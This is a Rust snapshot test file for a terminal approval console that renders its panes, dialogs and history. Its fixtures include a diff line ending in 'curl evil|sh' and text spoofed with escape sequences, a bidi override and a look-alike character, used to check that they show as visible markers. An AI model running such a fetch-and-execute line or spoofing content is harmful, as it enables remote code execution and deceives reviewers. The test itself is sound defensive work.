//! Snapshots of every pane and dialog through ratatui's `TestBackend`, at 80x24 and
//! 160x48, including a hostile action whose escape sequences and bidi override must show
//! as visible markers. Review changes with `INSTA_UPDATE=always cargo test --test
//! console_snapshots` and read the `.snap` diffs.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use signoff::client::FeedEvent;
use signoff::console::app::{App, Pane};
use signoff::console::fixtures::{self, action, hostile_action, live_app, now};
use signoff::console::login::{LoginCode, LoginState};
use signoff::console::theme::Theme;
use signoff::console::ui::Root;
use signoff::console::{Msg, update};
use signoff::history::{GenConfig, Generator};
use signoff::protocol::{HistoryCursor, HistoryPage, RiskLevel};

const SIZES: [(u16, u16); 2] = [(80, 24), (160, 48)];

fn render(app: &App, w: u16, h: u16) -> String {
    let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
    let theme = Theme::dark();
    t.draw(|f| f.render_widget(Root { app, theme: &theme }, f.area()))
        .unwrap();
    format!("{}", t.backend())
}

/// Snapshots `app` at both sizes after `setup` ran on a fresh copy sized for each.
fn snap_both(name: &str, make: impl Fn((u16, u16)) -> App) {
    for (w, h) in SIZES {
        let app = make((w, h));
        insta::assert_snapshot!(format!("{name}_{w}x{h}"), render(&app, w, h));
    }
}

fn key(app: &mut App, k: KeyCode) {
    update(app, Msg::Key(KeyEvent::new(k, KeyModifiers::NONE)));
}

fn chars(app: &mut App, s: &str) {
    for c in s.chars() {
        key(app, KeyCode::Char(c));
    }
}

#[test]
fn queue_with_context() {
    snap_both("queue_context", |size| {
        live_app(fixtures::sample_queue(), size)
    });
}

#[test]
fn diff_pane() {
    snap_both("diff", |size| {
        let mut app = live_app(fixtures::sample_queue(), size);
        key(&mut app, KeyCode::Tab);
        key(&mut app, KeyCode::Tab);
        assert_eq!(app.focus, Pane::Diff);
        app
    });
}

#[test]
fn diff_from_before_after_documents() {
    snap_both("diff_before_after", |size| {
        let mut a = action(1, "k8s.apply", "deploy/api", "production", RiskLevel::High);
        a.change = Some(signoff::protocol::Change::BeforeAfter {
            path: Some("deploy.yaml".into()),
            before: "kind: Deployment\nspec:\n  replicas: 3\n  image: api:1.4.2\n".into(),
            after: "kind: Deployment\nspec:\n  replicas: 3\n  image: api:1.5.0\n".into(),
        });
        let mut app = live_app(vec![a], size);
        app.focus = Pane::Diff;
        app.detail = Pane::Diff;
        app
    });
}

#[test]
fn risk_pane() {
    snap_both("risk", |size| {
        let mut app = live_app(fixtures::sample_queue(), size);
        key(&mut app, KeyCode::BackTab);
        assert_eq!(app.focus, Pane::Risk);
        app
    });
}

#[test]
fn approve_dialog() {
    snap_both("approve_dialog", |size| {
        let mut app = live_app(
            vec![action(
                1,
                "db.export",
                "customers",
                "production",
                RiskLevel::High,
            )],
            size,
        );
        chars(&mut app, "a");
        chars(&mut app, "ticket DATA-1234");
        app
    });
}

#[test]
fn withdrawn_under_the_dialog_notice() {
    snap_both("withdrawn_notice", |size| {
        let a = action(1, "db.export", "customers", "production", RiskLevel::High);
        let b = action(2, "k8s.scale", "payments-api", "staging", RiskLevel::Medium);
        let mut app = live_app(vec![a.clone(), b], size);
        chars(&mut app, "a");
        chars(&mut app, "ok, ");
        let mut gone = a;
        gone.status = signoff::protocol::Status::Withdrawn;
        update(
            &mut app,
            fixtures::server(signoff::protocol::messages::ServerMsg::Resolved {
                seq: 11,
                row: signoff::protocol::ActionRow::compute(&gone),
                decided_by: vec![],
                reason: "withdrawn".into(),
            }),
        );
        chars(&mut app, "all good");
        app
    });
}

#[test]
fn critical_approve_dialog() {
    snap_both("critical_dialog", |size| {
        let mut app = live_app(
            vec![action(
                3,
                "iam.grant",
                "role/admin",
                "production",
                RiskLevel::Critical,
            )],
            size,
        );
        chars(&mut app, "a");
        chars(&mut app, "role/ad");
        key(&mut app, KeyCode::Enter);
        app
    });
}

#[test]
fn approve_dialog_wraps_many_risk_tags_under_the_value_column() {
    let make = |size| {
        let mut a = action(
            4,
            "db.export",
            "customers",
            "production",
            RiskLevel::Critical,
        );
        for (id, label) in [
            ("pii", "PII"),
            ("export", "export"),
            ("first-time", "first time"),
            ("off-hours", "off-hours"),
            ("bulk", "bulk change"),
            ("network-exposure", "network exposure"),
        ] {
            a.risk.tags.push(signoff::protocol::RiskTag {
                id: id.into(),
                label: label.into(),
                reason: format!("{label} fired"),
            });
        }
        let mut app = live_app(vec![a], size);
        chars(&mut app, "a");
        app
    };
    snap_both("many_tags_dialog", make);
    // The row after `Risk` continues under the value column, not the label column.
    let screen = render(&make((160, 48)), 160, 48);
    let rows: Vec<&str> = screen.lines().collect();
    let at = rows
        .iter()
        .position(|r| r.contains("║Risk "))
        .expect("the dialog's risk row");
    let next = rows[at + 1];
    let inside = &next[next.find('║').expect("dialog border") + '║'.len_utf8()..];
    assert!(
        inside.starts_with(&" ".repeat(13)) && !inside.trim().is_empty(),
        "{next}"
    );
}

#[test]
fn deny_dialog_refuses_an_empty_reason() {
    snap_both("deny_dialog", |size| {
        let mut app = live_app(
            vec![action(
                2,
                "k8s.scale",
                "payments-api",
                "staging",
                RiskLevel::Medium,
            )],
            size,
        );
        chars(&mut app, "d");
        key(&mut app, KeyCode::Enter);
        app
    });
}

#[test]
fn help_overlay() {
    snap_both("help", |size| {
        let mut app = live_app(fixtures::sample_queue(), size);
        chars(&mut app, "?");
        app
    });
}

#[test]
fn filter_dialog() {
    snap_both("filter", |size| {
        let mut app = live_app(fixtures::sample_queue(), size);
        chars(&mut app, "f");
        chars(&mut app, " j");
        app
    });
}

#[test]
fn search_prompt() {
    snap_both("search", |size| {
        let mut app = live_app(fixtures::sample_queue(), size);
        chars(&mut app, "/prod");
        app
    });
}

#[test]
fn reason_prompt() {
    snap_both("reason", |size| {
        let mut app = live_app(fixtures::sample_queue(), size);
        chars(&mut app, "r");
        chars(&mut app, "checked with the data owner");
        app
    });
}

#[test]
fn login_dialog() {
    snap_both("login", |size| {
        let mut app = live_app(vec![], size);
        update(
            &mut app,
            Msg::LoginStarted(LoginCode {
                verification_uri: "https://idp.example/device".into(),
                verification_uri_complete: None,
                user_code: "WDJB-MJHT".into(),
                expires_at: now().plus_secs(600),
                qr: vec![],
            }),
        );
        app
    });
    // After a session ended: the reason stays visible while the new code is shown.
    let mut app = live_app(vec![], (80, 24));
    app.dialog = Some(signoff::console::app::Dialog::Login(LoginState::Starting {
        ended: Some("Session ended: the issuer refused the refresh (invalid_grant)".into()),
    }));
    update(
        &mut app,
        Msg::LoginStarted(LoginCode {
            verification_uri: "https://idp.example/device".into(),
            verification_uri_complete: None,
            user_code: "WDJB-MJHT".into(),
            expires_at: now().plus_secs(600),
            qr: vec![],
        }),
    );
    insta::assert_snapshot!("login_session_ended_80x24", render(&app, 80, 24));
    let mut app = live_app(vec![], (80, 24));
    app.dialog = Some(signoff::console::app::Dialog::Login(LoginState::Failed {
        reason: "access_denied".into(),
        ended: None,
    }));
    insta::assert_snapshot!("login_failed_80x24", render(&app, 80, 24));
    // A long reason wraps, and the key hints stay on screen.
    app.dialog = Some(signoff::console::app::Dialog::Login(LoginState::Failed {
        reason: "sign-in was declined at the identity provider (access_denied); nothing \
                 was changed"
            .into(),
        ended: None,
    }));
    let screen = render(&app, 80, 24);
    assert!(screen.contains("(access_denied)"), "{screen}");
    assert!(screen.contains("Enter try again"), "{screen}");
}

#[test]
fn hostile_action_shows_every_hidden_character() {
    snap_both("hostile_context", |size| {
        live_app(vec![hostile_action(1)], size)
    });
    snap_both("hostile_diff", |size| {
        let mut app = live_app(vec![hostile_action(1)], size);
        app.focus = Pane::Diff;
        app.detail = Pane::Diff;
        app
    });
    let app = live_app(vec![hostile_action(1)], (160, 48));
    let screen = render(&app, 160, 48);
    assert!(!screen.contains('\u{1b}'), "no raw ESC reaches the buffer");
    assert!(
        !screen.contains('\u{202e}'),
        "no raw bidi override reaches the buffer"
    );
    assert!(screen.contains("⟨ESC⟩[2J"));
    assert!(screen.contains("⟨U+202E⟩"));
    assert!(screen.contains("⟨U+200B⟩"));
}

#[test]
fn reconnecting_status_and_empty_queue() {
    snap_both("reconnecting", |size| {
        let mut app = live_app(vec![], size);
        update(
            &mut app,
            Msg::Feed(FeedEvent::Disconnected {
                reason: "network: reset".into(),
            }),
        );
        update(
            &mut app,
            Msg::Feed(FeedEvent::Retrying {
                attempt: 3,
                delay: std::time::Duration::from_secs(4),
            }),
        );
        app
    });
}

/// Issue 18: a console that never connected must not look like "all quiet".
#[test]
fn never_connected_says_why_the_queue_is_empty() {
    snap_both("never_connected", |size| {
        let mut app = App::new(fixtures::settings(), now());
        app.size = size;
        update(&mut app, Msg::Feed(FeedEvent::Connecting { attempt: 7 }));
        update(
            &mut app,
            Msg::Feed(FeedEvent::Disconnected {
                reason: "connection refused".into(),
            }),
        );
        update(
            &mut app,
            Msg::Feed(FeedEvent::Retrying {
                attempt: 7,
                delay: std::time::Duration::from_secs(14),
            }),
        );
        let screen = render(&app, size.0, size.1);
        assert!(
            screen.contains("Not connected to http://127.0.0.1:7700 — connection refused")
                && !screen.contains("No pending actions"),
            "{screen}"
        );
        app
    });
}

/// Issue 18: an action with no change does not spend 16 rows saying so.
#[test]
fn an_action_without_a_change_collapses_the_diff_pane() {
    snap_both("no_change", |size| {
        let mut a = action(1, "k8s.restart", "checkout", "staging", RiskLevel::Low);
        a.change = None;
        live_app(vec![a], size)
    });
}

#[test]
fn too_small_window() {
    let app = live_app(fixtures::sample_queue(), (50, 10));
    insta::assert_snapshot!("too_small_50x10", render(&app, 50, 10));
}

fn history_records() -> Vec<signoff::protocol::HistoryRecord> {
    Generator::new(GenConfig {
        count: 300,
        end: now().plus_secs(-90),
        span_days: 10,
        ..GenConfig::default()
    })
    .records()
}

/// The broker's answer to the latest history request: `records`, with more to come.
fn answer(app: &mut App, records: Vec<signoff::protocol::HistoryRecord>) {
    let generation = app.history.generation;
    update(
        app,
        Msg::HistoryPage {
            generation,
            result: Ok(HistoryPage {
                records,
                next_cursor: Some(HistoryCursor("next".into())),
            }),
        },
    );
}

/// A console on the history screen holding one generated page (more on the broker).
fn history_app(size: (u16, u16)) -> App {
    let mut app = live_app(fixtures::sample_queue(), size);
    chars(&mut app, "H");
    answer(&mut app, history_records());
    app
}

#[test]
fn history_with_chips_and_a_highlighted_match() {
    snap_both("history", |size| {
        let mut app = history_app(size);
        // Chips: approved (first picker item) and the last 7 days.
        chars(&mut app, "f");
        key(&mut app, KeyCode::Char(' '));
        key(&mut app, KeyCode::Esc);
        chars(&mut app, "ttt");
        let approved = app.history.local().result_records().cloned().collect();
        answer(&mut app, approved);
        chars(&mut app, "/production");
        key(&mut app, KeyCode::Enter);
        chars(&mut app, "j");
        assert!(!app.history.rows().is_empty());
        // Matched characters are drawn underlined in the match style.
        let (w, h) = size;
        let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
        let theme = Theme::dark();
        t.draw(|f| {
            f.render_widget(
                Root {
                    app: &app,
                    theme: &theme,
                },
                f.area(),
            )
        })
        .unwrap();
        let buf = t.backend().buffer();
        let underlined: String = buf
            .content()
            .iter()
            .filter(|c| c.modifier.contains(ratatui::style::Modifier::UNDERLINED))
            .map(|c| c.symbol())
            .collect();
        assert!(underlined.contains("production"), "{underlined}");
        app
    });
}

#[test]
fn hostile_history_text_shows_as_markers_in_rows_and_record() {
    let mut records = history_records();
    let r = &mut records[0];
    r.action.target.resource = "prod\u{202e}gnp.exe".into();
    r.action.summary = "wipe \u{1b}[2J the screen".into();
    r.reason = "ok\u{200b} by me".into();
    let mut app = live_app(fixtures::sample_queue(), (160, 48));
    chars(&mut app, "H");
    answer(&mut app, records);
    chars(&mut app, "/prod");
    key(&mut app, KeyCode::Enter);
    let screen = render(&app, 160, 48);
    assert!(screen.contains("⟨U+202E⟩"), "{screen}");
    assert!(screen.contains("⟨U+200B⟩"), "{screen}");
    assert!(screen.contains("⟨ESC⟩[2J"), "{screen}");
    assert!(!screen.contains('\u{1b}') && !screen.contains('\u{202e}'));
}

#[test]
fn history_loading_and_chip_picker() {
    let mut app = live_app(fixtures::sample_queue(), (80, 24));
    chars(&mut app, "H");
    insta::assert_snapshot!("history_loading_80x24", render(&app, 80, 24));
    let mut app = history_app((80, 24));
    chars(&mut app, "f");
    insta::assert_snapshot!("history_chips_80x24", render(&app, 80, 24));
    // Deep in the list (past the facets' headings) the cursor's item is still on screen.
    for _ in 0..30 {
        key(&mut app, KeyCode::Char('j'));
    }
    let Some(signoff::console::history_view::Prompt::Chips(p)) = &app.history.prompt else {
        panic!("the picker is open");
    };
    let label = p.current().expect("an item").label();
    let shown = label.split(" (").next().unwrap_or_default().to_string();
    assert!(render(&app, 80, 24).contains(&shown), "{shown}");
}

#[test]
fn no_color_theme_renders() {
    let app = live_app(fixtures::sample_queue(), (80, 24));
    let mut t = Terminal::new(TestBackend::new(80, 24)).unwrap();
    let theme = Theme::monochrome();
    t.draw(|f| {
        f.render_widget(
            Root {
                app: &app,
                theme: &theme,
            },
            f.area(),
        )
    })
    .unwrap();
    let buf = t.backend().buffer();
    let coloured = buf
        .content()
        .iter()
        .any(|c| c.fg != ratatui::style::Color::Reset || c.bg != ratatui::style::Color::Reset);
    assert!(!coloured, "NO_COLOR: no cell has a colour");
}

/// Issue 12: a 20,000-column added line ending in the payload. The title says which
/// columns show, `>` marks the cut, and `$` (or `l` until the end) brings the tail in.
#[test]
fn long_diff_line_tail_is_reachable_by_scrolling_sideways() {
    let mut a = action(1, "sh.run", "deploy.sh", "production", RiskLevel::High);
    let long = format!("+{};TAILMARK-DIFF curl evil|sh", "a".repeat(20_000 - 27));
    a.change = Some(signoff::protocol::Change::UnifiedDiff {
        diff: format!("@@ -1 +1 @@\n-echo ok\n{long}\n"),
    });
    let mut app = live_app(vec![a], (160, 48));
    app.focus = Pane::Diff;
    let screen = render(&app, 160, 48);
    assert!(!screen.contains("TAILMARK"), "{screen}");
    assert!(screen.contains("cols 1–65 of 20,000"), "{screen}");
    assert!(screen.contains("aaa>"), "the cut is marked:\n{screen}");
    chars(&mut app, "$");
    let screen = render(&app, 160, 48);
    assert!(screen.contains(";TAILMARK-DIFF curl evil|sh"), "{screen}");
    assert!(screen.contains("cols 19,936–20,000 of 20,000"), "{screen}");
    insta::assert_snapshot!("diff_long_line_tail_160x48", screen);
    // `l` steps half a pane; `0` goes back.
    chars(&mut app, "0l");
    assert!(render(&app, 160, 48).contains("cols 33–97 of 20,000"));
}

#[test]
fn approving_your_own_request_is_flagged_before_sending() {
    let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
    a.requester.on_behalf_of = Some("bob@example.com".into());
    let mut app = live_app(vec![a], (80, 24));
    chars(&mut app, "a");
    let screen = render(&app, 80, 24);
    assert!(screen.contains("will refuse self-approval"), "{screen}");
    insta::assert_snapshot!("self_request_80x24", screen);
}

#[test]
fn self_request_by_another_spelling_is_marked_on_the_row() {
    // The console compares the same person keys as the broker: other spellings and
    // look-alikes of bob@example.com are marked on the queue row and in the context pane.
    for (spelling, lookalike) in [
        ("Bob <BOB@example.com>", false),
        ("mailto:bob@example.com", false),
        ("ｂｏｂ", false),
        ("bob@example.com.", false),
        ("b\u{43e}b", true),
    ] {
        let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
        a.requester.on_behalf_of = Some(spelling.into());
        let app = live_app(vec![a], (160, 48));
        let screen = render(&app, 160, 48);
        let row = screen
            .lines()
            .find(|l| l.contains("HIGH") && l.contains("customers"))
            .unwrap_or_default();
        assert!(row.contains("⚠"), "{spelling:?}: {row}");
        let warning = if lookalike {
            "looks like you"
        } else {
            "requested by you or for you"
        };
        assert!(screen.contains(warning), "{spelling:?}: {screen}");
    }
    let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
    a.requester.on_behalf_of = Some("carol@example.com".into());
    let screen = render(&live_app(vec![a], (160, 48)), 160, 48);
    assert!(!screen.contains("⚠"), "{screen}");
}

#[test]
fn a_decision_waiting_for_reconnect_is_shown() {
    let a = action(1, "db.export", "customers", "production", RiskLevel::High);
    let mut app = live_app(vec![a], (160, 48));
    chars(&mut app, "a");
    key(&mut app, KeyCode::Enter);
    update(
        &mut app,
        Msg::Feed(FeedEvent::Disconnected {
            reason: "network: reset".into(),
        }),
    );
    update(
        &mut app,
        Msg::Feed(FeedEvent::Retrying {
            attempt: 1,
            delay: std::time::Duration::from_secs(1),
        }),
    );
    let screen = render(&app, 160, 48);
    assert!(screen.contains("1 decision(s) queued"), "{screen}");
    assert!(
        screen.contains("reconnecting (attempt 1, next in 1s)"),
        "{screen}"
    );
}

#[test]
fn the_end_of_a_very_long_justification_is_reachable() {
    let mut a = action(1, "db.export", "customers", "production", RiskLevel::High);
    a.justification = format!("{} THE END", "padding ".repeat(1500));
    let mut app = live_app(vec![a], (80, 24));
    key(&mut app, KeyCode::Tab);
    assert_eq!(app.focus, Pane::Context);
    chars(&mut app, "G");
    let screen = render(&app, 80, 24);
    assert!(screen.contains("THE END"), "{screen}");
    // And not beyond: the last row is still on screen, not scrolled into emptiness.
    chars(&mut app, "jjjj");
    assert!(render(&app, 80, 24).contains("THE END"));
}

#[test]
fn help_lists_recent_notices() {
    let mut app = live_app(fixtures::sample_queue(), (160, 48));
    chars(&mut app, "s"); // a notice: "sorted by expiry"
    chars(&mut app, "?");
    let screen = render(&app, 160, 48);
    assert!(screen.contains("Recent notices"), "{screen}");
    assert!(screen.contains("sorted by expiry"), "{screen}");
}
